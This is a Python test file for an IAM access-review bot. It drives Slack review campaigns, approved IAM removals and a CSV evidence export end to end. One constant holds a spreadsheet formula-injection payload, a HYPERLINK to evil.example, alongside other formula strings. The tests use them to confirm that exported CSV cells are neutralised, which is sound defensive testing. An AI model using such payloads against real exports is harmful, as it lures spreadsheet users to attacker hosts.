"""Access reviews end to end over the demo organisation: the real scan, Steward's HTTP app
(requests signed as Slack signs them), the local Slack (strict about Block Kit, scopes and
modals) and moto's IAM. A campaign is started with `/iam review start`, reviewers decide in
their DMs, a removal is approved by a second person and carried out in IAM, the campaign
closes at its due date, and the exported evidence is checked against the audit log."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
from collections import Counter
from datetime import date, timedelta

import boto3
import pytest
from sqlmodel import Session, select
from typer.testing import CliRunner

from bot.db.models import AuditEvent, Finding, Remediation, ReviewCampaign, ReviewItem, Scan
from bot.services.reviews import ReviewRefusal, neutralise, owns_itself

needs_moto = pytest.mark.skipif(importlib.util.find_spec("moto") is None, reason="moto is not installed")

PRIYA, MARCO, AISHA, TOM, LENA, DIEGO, YUKI, HANNAH, SAM = (
    "U0PRIYA001", "U0MARCO001", "U0AISHA001", "U0TOMBE001", "U0LENAN001", "U0DIEGO001", "U0YUKIT001",
    "U0HANNA001", "U0SAMOK001")
INJECTION = '=HYPERLINK("http://evil.example/?x","click")'


def items(engine, **where) -> list[ReviewItem]:
    with Session(engine) as session:
        query = select(ReviewItem)
        for key, value in where.items():
            query = query.where(getattr(ReviewItem, key) == value)
        return list(session.exec(query.order_by(ReviewItem.id)))


def item_named(engine, name: str, account: str = "123456789012") -> ReviewItem:
    [found] = items(engine, name=name, account_id=account)
    return found


def events(engine, action: str) -> list[AuditEvent]:
    with Session(engine) as session:
        return list(session.exec(select(AuditEvent).where(AuditEvent.action == action)
                                 .order_by(AuditEvent.sequence)))


def review_dm(demo, user: str) -> dict:
    found = [m for m in demo.fake.dm(user) if "Access review" in json.dumps(m.get("blocks") or [])]
    assert len(found) == 1, f"{user} has {len(found)} review messages"  # one per reviewer and campaign
    return found[0] | {"channel": demo.fake.im_channel(user)}


def click(demo, user: str, message: dict, action_id: str, block_id: str) -> None:
    answer = demo.block_action(user, source="message", block_id=block_id, action_id=action_id,
                               channel=message["channel"], ts=message["ts"])
    assert answer["ok"], answer


def latest_modal(demo, user: str, callback: str) -> dict:
    return demo.fake.wait_for(lambda: next((v for v in reversed(demo.modal_stack(user))
                                            if v.get("callback_id") == callback), None), timeout=20)


@pytest.fixture
def demo():  # after conftest has cleared the AWS settings: the demo sets its own
    from sandbox.demo import Demo

    running = Demo(port=0, run_cycle=False).start()
    try:
        st = running.runtime.steward
        # Priya's own IAM user is reviewed by her manager, Sam (the configured mapping).
        st.reviews.settings = st.settings.model_copy(update={"review_managers": ["priya.shah@acme.example=U0SAMOK001"]})
        # Marco's manager is in his Slack profile (a custom "Manager" field of type user).
        running.fake.set_profile_field(MARCO, "Manager", HANNAH)
        yield running
    finally:
        running.stop()


def test_self_owned_principals_are_recognised():
    assert owns_itself("user", "priya.shah", "priya.shah@acme.example")
    assert owns_itself("user", "bob@example.com", "bob@example.com")
    assert not owns_itself("user", "ci-deployer", "diego.alvarez@acme.example")
    assert not owns_itself("role", "priya.shah", "priya.shah@acme.example")
    assert not owns_itself("user", "legacy", None)


def test_csv_cells_cannot_run_formulas():
    for bad in ("=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", " =1"):
        assert neutralise(bad).startswith("'"), bad
    assert neutralise("arn:aws:iam::1:user/a") == "arn:aws:iam::1:user/a" and neutralise(None) == ""


@needs_moto
def test_a_campaign_over_the_demo_organisation(demo):
    st = demo.runtime.steward
    engine = st.engine
    security = demo.security_channel
    due = date.today() + timedelta(days=14)

    # Only approvers start a campaign; bad input changes nothing.
    assert demo.slash_command(PRIYA, demo.dm_channel(PRIYA), "/iam review start")["ok"]
    assert demo.slash_command(SAM, security, "/iam review start --scope everything")["ok"]
    assert items(engine) == []
    assert demo.slash_command(SAM, security, f"/iam review start --scope all --due {due}")["ok"]
    campaign = demo.fake.wait_for(lambda: _campaign(engine), timeout=60)
    refusals = [e for e in events(engine, "refused") if e.actor == PRIYA]
    assert refusals and refusals[-1].payload["reason"] == "not a security approver"

    # The population: every user and role of both accounts, frozen from the latest scans.
    org = demo.org
    expected = sum(len(a.users) for a in org.accounts)
    with Session(engine) as session:
        scans = {s.account_id: s for s in session.exec(select(Scan).where(Scan.status == "succeeded"))}
    roles = sum(s.counts["inventory"]["roles"] for s in scans.values())
    assert campaign.population == campaign.inventory_count == expected + roles == len(items(engine))
    assert {a: s["scan_id"] for a, s in campaign.scans.items()} == {a: s.id for a, s in scans.items()}
    assert campaign.due_at.date() == due
    [started] = events(engine, "review.started")
    assert started.payload["population"] == campaign.population and started.actor == SAM

    # Routing: owners; a person's own user to their manager (configured, or from the Slack
    # profile's Manager field), else to the security channel.
    priya_user = item_named(engine, "priya.shah")
    assert (priya_user.reviewer, priya_user.routed_by) == (SAM, "manager")
    marco_user = item_named(engine, "marco.rossi")
    assert (marco_user.reviewer, marco_user.routed_by) == (HANNAH, "manager")
    assert demo.fake.calls("team.profile.get") and demo.fake.calls("users.profile.get")
    tom_user = item_named(engine, "tom.becker")
    assert (tom_user.reviewer, tom_user.routed_by) == ("security", "security:self-owned")
    assert item_named(engine, "ci-deployer").reviewer == DIEGO
    assert item_named(engine, "backup-agent").routed_by == "security:no-owner"
    assert all(i.reviewer for i in items(engine))
    snapshot = priya_user.snapshot
    kinds = Counter(e["kind"] for e in snapshot["entitlements"])
    assert kinds["group"] == 1 and kinds["key"] == 1 and kinds["console"] == 1 and snapshot["mfa"]
    aisha = item_named(engine, "aisha.bello")  # can edit policies: the effective-permission summary
    assert "escalate" in aisha.snapshot["effective"].get("summary", "").lower()

    # One message per reviewer; the security channel gets the unowned ones, paged.
    reviewers = {i.reviewer for i in items(engine)}
    for person in reviewers - {"security"}:
        review_dm(demo, person)
    sec_messages = [m for m in demo.fake.messages(security, replies=False)
                    if "identities have nobody accountable" in json.dumps(m.get("blocks") or [])]
    assert len(sec_messages) == 1
    assert "page 1 of 2" in json.dumps(sec_messages[0]["blocks"])
    progress = [m for m in demo.fake.messages(security, replies=False) if "decided*" in json.dumps(m.get("blocks") or [])]
    assert len(progress) == 1 and "0% decided" in json.dumps(progress[0]["blocks"])

    # Still needed, from Priya's DM (her only item: the app-server role she owns).
    message = review_dm(demo, PRIYA)
    [role] = items(engine, reviewer=PRIYA)
    assert "Open details" in json.dumps(message["blocks"]) and "still needed" not in json.dumps(message["blocks"])
    click(demo, PRIYA, message, "review:still_needed", f"r:{role.token}")
    decided = demo.fake.wait_for(lambda: item_named(engine, role.name).decision, timeout=20)
    assert decided == "still_needed"
    role = item_named(engine, role.name)
    assert role.decided_by == PRIYA and role.decision_seconds is not None and role.decision_seconds >= 0
    demo.fake.wait_for(lambda: "Still needed — <@U0PRIYA001>" in json.dumps(
        demo.fake.message(message["channel"], message["ts"])["blocks"], ensure_ascii=False), timeout=20)

    # A stranger's click is refused and audited; nothing changes.
    diego_msg = review_dm(demo, DIEGO)
    ci = item_named(engine, "ci-deployer")
    click(demo, MARCO, diego_msg, "review:still_needed", f"r:{ci.token}")
    demo.fake.wait_for(lambda: any(e.actor == MARCO and e.payload.get("reason") == "not the reviewer"
                                   for e in events(engine, "refused")), timeout=20)
    assert item_named(engine, "ci-deployer").decision is None

    # Bulk "all still needed" is offered only once the details were opened.
    assert "review:all_still_needed" not in json.dumps(diego_msg["blocks"])
    with pytest.raises(ReviewRefusal):
        st.reviews.all_still_needed(DIEGO, _message_token(diego_msg), 0)

    # Remove access…: Diego removes the ci-deploy policy from ci-deployer, with a reason that
    # tries a spreadsheet formula. It needs a security approver: Hannah approves.
    click(demo, DIEGO, diego_msg, "review:remove", f"r:{ci.token}")
    modal = latest_modal(demo, DIEGO, "review_remove_modal")
    policy = next(e for e in ci.snapshot["entitlements"] if e["kind"] == "policy")
    answer = demo.submit_view(DIEGO, modal["id"], {"entitlements": {"value": [policy["id"]]},
                                                   "reason": {"value": INJECTION}})
    assert answer["ok"], answer
    approval = demo.fake.wait_for(lambda: next((m for m in demo.fake.messages(security, replies=False)
                                                if "Approval needed" in json.dumps(m.get("blocks") or [])), None),
                                  timeout=30)
    ci = demo.fake.wait_for(lambda: (i := item_named(engine, "ci-deployer")).remediation_ids and i, timeout=20)
    assert ci.decision == "remove" and ci.removed == [policy["id"]] and ci.decision_reason == INJECTION
    [rem_id] = ci.remediation_ids
    approve = _element(approval, "remediation:approve")
    answer = demo.block_action(HANNAH, source="message", block_id=approve[0], action_id="remediation:approve",
                               channel=security, ts=approval["ts"])
    assert answer["ok"], answer
    rem = demo.fake.wait_for(lambda: _remediation(engine, rem_id) if _remediation(engine, rem_id).status
                             in ("succeeded", "failed") else None, timeout=30)
    assert (rem.status, rem.action, rem.approved_by, rem.requested_by) == (
        "succeeded", "detach-managed-policy", HANNAH, DIEGO), rem.error
    iam = boto3.client("iam", region_name="us-east-1")
    attached = iam.list_attached_user_policies(UserName="ci-deployer")["AttachedPolicies"]
    assert policy["details"]["policy_arn"] not in [p["PolicyArn"] for p in attached]

    # Details, then the bulk button certifies the items whose details Diego saw.
    diego_msg = review_dm(demo, DIEGO)
    click(demo, DIEGO, diego_msg, "review:details", "review-nav")
    latest_modal(demo, DIEGO, "review_details_modal")
    diego_msg = demo.fake.wait_for(lambda: (m := review_dm(demo, DIEGO)) and "review:all_still_needed" in json.dumps(
        m["blocks"]) and m, timeout=20)
    waiting = [i for i in items(engine, reviewer=DIEGO) if not i.decision]
    assert waiting and all(i.details_seen_at for i in waiting)
    click(demo, DIEGO, diego_msg, "review:all_still_needed", "review-nav")
    demo.fake.wait_for(lambda: all(i.decision for i in items(engine, reviewer=DIEGO)), timeout=20)
    bulk = [e for e in events(engine, "review.decided") if e.payload.get("bulk")]
    assert {e.payload["item"] for e in bulk} == {i.id for i in waiting}

    # Not mine: to the security channel, which finds the right reviewer.
    aisha_msg = review_dm(demo, AISHA)
    [first, *_] = items(engine, reviewer=AISHA)
    click(demo, AISHA, aisha_msg, "review:not_mine", f"r:{first.token}")
    demo.fake.wait_for(lambda: item_named(engine, first.name).reviewer == "security", timeout=20)
    assert item_named(engine, first.name).routed_by == "security:not-mine"

    # Delegation with a reason: Tom hands one of his to Lena; it moves to her message.
    tom_msg = review_dm(demo, TOM)
    moved = next(i for i in items(engine, reviewer=TOM) if any(
        e["removable"] and e["kind"] in ("group", "policy", "inline") for e in i.snapshot["entitlements"]))
    click(demo, TOM, tom_msg, "review:delegate", f"r:{moved.token}")
    modal = latest_modal(demo, TOM, "review_delegate_modal")
    short = demo.submit_view(TOM, modal["id"], {"delegate": {"value": LENA}, "reason": {"value": "hm"}})
    assert not short["ok"] and "reason" in short["errors"]
    answer = demo.submit_view(TOM, modal["id"], {"delegate": {"value": LENA},
                                                 "reason": {"value": "@SUM(1) Lena runs this pipeline now"}})
    assert answer["ok"], answer
    demo.fake.wait_for(lambda: item_named(engine, moved.name).reviewer == LENA, timeout=20)
    delegated = item_named(engine, moved.name)
    assert delegated.delegated_from == TOM and delegated.delegation_reason.startswith("@SUM")
    demo.fake.wait_for(lambda: moved.token in json.dumps(review_dm(demo, LENA)["blocks"]), timeout=20)
    assert moved.token not in json.dumps(review_dm(demo, TOM)["blocks"])

    # Lena asks to remove one of its entitlements; the approver rejects it: nothing changes in
    # IAM, the revocation's finding is closed, and the evidence says rejected.
    lena_msg = review_dm(demo, LENA)
    click(demo, LENA, lena_msg, "review:remove", f"r:{moved.token}")
    modal = latest_modal(demo, LENA, "review_remove_modal")
    wanted = next(e for e in moved.snapshot["entitlements"] if e["removable"] and e["kind"] != "key")
    assert demo.submit_view(LENA, modal["id"], {"entitlements": {"value": [wanted["id"]]}})["ok"]
    asked = demo.fake.wait_for(lambda: (i := item_named(engine, moved.name, moved.account_id)).remediation_ids
                               and i, timeout=30)
    rejected = _remediation(engine, asked.remediation_ids[0])
    assert rejected.status == "planned" and rejected.requested_by == LENA
    st.campaigns.approval(SAM, rejected.token, False, reason="the nightly job still needs it")
    assert st.reviews.settle_revocations() == 1
    with Session(engine) as session:
        assert session.get(Finding, rejected.finding_id).state == "resolved"

    # /iam review status, privately.
    assert demo.slash_command(SAM, security, "/iam review status")["ok"]
    assert demo.slash_command(YUKI, demo.dm_channel(YUKI), "/iam review status")["ok"]
    status = json.dumps(demo.fake.ephemerals(SAM), ensure_ascii=False)
    assert "% decided (" in status and f"/{campaign.population})" in status
    waiting = sum(1 for i in items(engine, reviewer=YUKI) if not i.decision)
    assert f"{waiting} identities wait for your review" in json.dumps(demo.fake.ephemerals(YUKI))

    # Reminders and escalation, then the due date: undecided items are overdue, never certified.
    with Session(engine) as session:
        open_before = {i.id for i in session.exec(select(ReviewItem).where(ReviewItem.decision.is_(None)))}
    assert open_before
    later = st.reviews.run_cycle(now=st.clock() + timedelta(days=8))
    assert later.reminders >= 1 and later.escalations >= 1 and not later.closed
    closing = st.reviews.run_cycle(now=campaign.due_at + timedelta(seconds=1))
    assert closing.closed == [campaign.id]
    overdue = {i.id for i in items(engine, decision="overdue")}
    assert overdue == open_before
    assert not items(engine, decision=None)
    [closed] = events(engine, "review.closed")
    assert set(closed.payload["overdue"]) == overdue
    demo.fake.wait_for(lambda: "(closed)" in json.dumps(demo.fake.message(security, progress[0]["ts"])["blocks"]),
                       timeout=20)

    # The evidence: rows per item and entitlement, matching the audit log.
    result = CliRunner().invoke(_cli(), ["review", "export", str(campaign.id), "--format", "csv", "--output",
                                         str(demo.workdir / "evidence.csv")], env=_env(demo))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO((demo.workdir / "evidence.csv").read_text())))
    summary = (demo.workdir / "evidence-summary.csv").read_text()
    assert f"total_population,{campaign.population}" in summary and f"total_overdue,{len(overdue)}" in summary
    assert {r["arn"] for r in rows} == {i.arn for i in items(engine)}
    with Session(engine) as session:
        by_seq = {e.sequence: e for e in session.exec(select(AuditEvent))}
        head = max(by_seq)
    for row in rows:
        assert row["chain_head_hash"] == by_seq[int(row["chain_head_sequence"])].hash
        assert int(row["chain_head_sequence"]) == head  # the export's own event is the head
        seqs = [int(s) for s in row["audit_sequences"].split(";")]
        decisions = [by_seq[s] for s in seqs if by_seq[s].action in ("review.decided", "review.closed")]
        assert decisions, row
        last = decisions[-1]
        if last.action == "review.decided":
            assert last.payload["item"] == int(row["item_id"]) and last.payload["decision"] == row["decision"]
            assert last.actor == row["decided_by"]
        else:
            assert row["decision"] == "overdue" and int(row["item_id"]) in last.payload["overdue"]
    assert [r["remediation_status"] for r in rows if r["entitlement_id"] == wanted["id"]
            and r["principal"] == moved.name] == ["rejected"]
    removed = [r for r in rows if r["revocation_requested"] == "True" and r["principal"] == "ci-deployer"]
    assert len(removed) == 1 and removed[0]["remediation_status"] == "succeeded"
    assert removed[0]["remediation_approved_by"] == HANNAH
    rem_events = [by_seq[int(s)].action for s in removed[0]["audit_sequences"].split(";")]
    assert "remediation.succeeded" in rem_events and "approval.requested" in rem_events
    # The formula the reviewer typed, neutralised in every cell it reached.
    cells = [r["decision_reason"] for r in rows if r["principal"] == "ci-deployer"]
    assert cells and all(c == "'" + INJECTION for c in cells)
    assert all(r["delegation_reason"].startswith("'@SUM") for r in rows if r["principal"] == moved.name)
    raw = (demo.workdir / "evidence.csv").read_text()
    assert "\n=" not in raw and ",=" not in raw and ',"=' not in raw


def _campaign(engine) -> ReviewCampaign | None:
    with Session(engine) as session:
        campaign = session.exec(select(ReviewCampaign)).first()
        return campaign if campaign is not None and campaign.progress_ts else None  # sent, then progress


def _remediation(engine, rem_id: int) -> Remediation:
    with Session(engine) as session:
        return session.get(Remediation, rem_id)


def _element(message: dict, action_id: str) -> tuple[str, dict]:
    for block in message["blocks"]:
        for element in block.get("elements", []):
            if element.get("action_id") == action_id:
                return block["block_id"], element
    raise AssertionError(f"no {action_id}")


def _message_token(message: dict) -> str:
    _, element = _element(message, "review:details")
    return element["value"].rpartition(":")[0]


def _cli():
    from bot.cli.main import app

    return app


def _env(demo) -> dict[str, str]:
    return {"STEWARD_DATABASE_URL": f"sqlite:///{demo.workdir / 'steward.db'}"}



# --- both databases: `steward review start|export` and `steward serve` over HTTP ----------------


@pytest.fixture
def reviewed_world(tmp_path, monkeypatch, empty_database_url):
    """bob (owned by himself: reviewed by his manager dave), dave (his own, no manager: the
    security channel) and legacy-ci (no owner: the security channel), scanned."""
    from tests.test_campaigns import make_world

    with make_world(tmp_path, monkeypatch, empty_database_url) as world:
        yield world


def _cli_env(world, **extra) -> dict[str, str]:
    return {"STEWARD_DATABASE_URL": world.db, "SLACK_BOT_TOKEN": world.fake.token, "SLACK_API_URL": world.fake.base_url,
            "STEWARD_SECURITY_CHANNEL": world.security, "STEWARD_SECURITY_APPROVERS": "U0CAROL001",
            "STEWARD_REVIEW_MANAGERS": "bob@example.com=U0DAVE0001", **extra}


@needs_moto
def test_review_on_both_databases_through_the_cli_and_http(reviewed_world):
    from sandbox import signing
    from tests.test_campaigns import BOB, CAROL, DAVE, FAKE_CREDENTIALS, running_steward

    world = reviewed_world
    runner = CliRunner()
    bad = runner.invoke(_cli(), ["review", "start", "--scope", "users", "--due", "2001-01-01"], env=_cli_env(world))
    assert bad.exit_code == 2 and "not in the future" in bad.output
    assert items(world.engine) == []
    started = runner.invoke(_cli(), ["review", "start", "--scope", "users", "--name", "Q4 users"], env=_cli_env(world))
    assert started.exit_code == 0, started.output
    assert "3 identities frozen" in started.output and "2 reviewers, 2 messages sent" in started.output
    bob, dave, legacy = (item_named(world.engine, n, account="123456789012") for n in ("bob", "dave", "legacy-ci"))
    assert (bob.reviewer, bob.routed_by) == (DAVE, "manager")  # bob never certifies his own access
    assert (dave.reviewer, dave.routed_by) == ("security", "security:self-owned")
    assert (legacy.reviewer, legacy.routed_by) == ("security", "security:no-owner")
    assert not [m for m in world.fake.dm(BOB) if m.get("blocks")]

    env = {**FAKE_CREDENTIALS, "AWS_ENDPOINT_URL": world.moto, "STEWARD_SECURITY_CHANNEL": world.security,
           "AWS_CONFIG_FILE": str(world.workdir / "none"), "AWS_SHARED_CREDENTIALS_FILE": str(world.workdir / "none"),
           "STEWARD_REVIEW_MANAGERS": "bob@example.com=U0DAVE0001"}
    with running_steward(world.fake, world.db, world.workdir, env=env) as served:
        def post_click(user, channel, message, action_id, value):
            body = signing.block_actions_body(
                user, action_id, value, message=message, channel_id=channel,
                response_url=world.fake.response_url(channel, user, message["ts"]),
                trigger_id=world.fake.trigger_id(user))
            assert served.post(body).status == 200

        # Dave certifies bob's user from his DM.
        [dm] = [m for m in world.fake.dm(DAVE) if m.get("blocks")]
        post_click(DAVE, world.fake.im_channel(DAVE), dm, "review:still_needed", bob.token)
        world.fake.wait_for(lambda: item_named(world.engine, "bob").decision == "still_needed", timeout=30)
        # Bob himself cannot touch it.
        post_click(BOB, world.fake.im_channel(DAVE), dm, "review:remove", bob.token)
        world.fake.wait_for(lambda: any(e.actor == BOB for e in events(world.engine, "refused")), timeout=30)

        # Carol (a security approver) removes legacy-ci's key: reversible and access-reducing,
        # so it is carried out at once (the remediation engine's rule), with Undo.
        [sec] = [m for m in world.fake.messages(world.security, replies=False)
                 if "nobody accountable" in json.dumps(m.get("blocks") or [])]
        post_click(CAROL, world.security, sec, "review:remove", legacy.token)
        world.fake.wait_for(lambda: world.fake.calls("views.open"), timeout=30)
        key = next(e for e in legacy.snapshot["entitlements"] if e["kind"] == "key")
        assert key["removable"], key
        values = {"entitlements": {"value": {"type": "multi_static_select", "selected_options": [
            {"value": key["id"], "text": {"type": "plain_text", "text": key["label"][:75]}}]}},
                  "reason": {"value": {"type": "plain_text_input", "value": "+unused since spring"}}}
        answer = served.post(signing.view_submission_body(CAROL, "review_remove_modal", legacy.token, values))
        assert answer.status == 200
        world.fake.wait_for(lambda: world.key_status("legacy-ci") == "Inactive", timeout=30)
        done = world.fake.wait_for(lambda: (i := item_named(world.engine, "legacy-ci")).remediation_ids and i,
                                   timeout=30)
        assert done.decision == "remove" and done.decided_by == CAROL
        # The message offers the remediation engine's own Undo (one click: her own reversible action).
        sec = world.fake.wait_for(lambda: (m := world.fake.message(world.security, sec["ts"])) and
                                  "remediation:undo" in json.dumps(m["blocks"]) and m, timeout=30)
        undo = next(e for b in sec["blocks"] if b.get("block_id") == f"u:{legacy.token}" for e in b["elements"])
        assert undo["action_id"] == "remediation:undo:0"  # each Undo of the block has its own id
        post_click(CAROL, world.security, sec, undo["action_id"], undo["value"])
        world.fake.wait_for(lambda: world.key_status("legacy-ci") == "Active", timeout=30)
        world.fake.wait_for(lambda: _remediation(world.engine, done.remediation_ids[0]).status == "undone", timeout=30)

    # The due date passes: dave's own user was never decided, so it is overdue, not certified.
    steward = world.steward(review_managers=["bob@example.com=U0DAVE0001"])
    steward.reviews.run_cycle(now=steward.clock() + timedelta(days=60))
    assert item_named(world.engine, "dave").decision == "overdue"

    exported = runner.invoke(_cli(), ["review", "export", "1", "--format", "jsonl"], env=_cli_env(world))
    assert exported.exit_code == 0, exported.output
    lines = [json.loads(line) for line in exported.stdout.splitlines() if line.startswith("{")]
    header, rows, summary = lines[0], lines[1:-1], lines[-1]
    assert header["record"] == "campaign" and header["population"] == header["inventory_count"] == 3
    assert summary["record"] == "summary" and (summary["still_needed"], summary["revoked"], summary["overdue"]) == (
        1, 1, 1)
    key_row = next(r for r in rows if r["entitlement_id"] == key["id"])
    # The evidence tells the whole story: removed, then undone (by the same engine, audited).
    assert key_row["remediation_status"] == "undone" and key_row["remediation_action"] == "deactivate-access-key"
    with Session(world.engine) as session:
        actions = {session.get(AuditEvent, int(s)).action for s in key_row["audit_sequences"].split(";")}
    assert {"review.decided", "remediation.succeeded", "remediation.undone"} <= actions
    assert key_row["decision_reason"] == "+unused since spring"  # JSON keeps the text; only CSV cells are neutralised
    with Session(world.engine) as session:
        for row in rows:
            for seq in row["audit_sequences"].split(";"):
                event = session.get(AuditEvent, int(seq))
                assert event is not None and (event.payload.get("campaign") == 1 or event.subject_fingerprint)
        assert session.get(AuditEvent, header["chain_head_sequence"]).hash == header["chain_head_hash"]
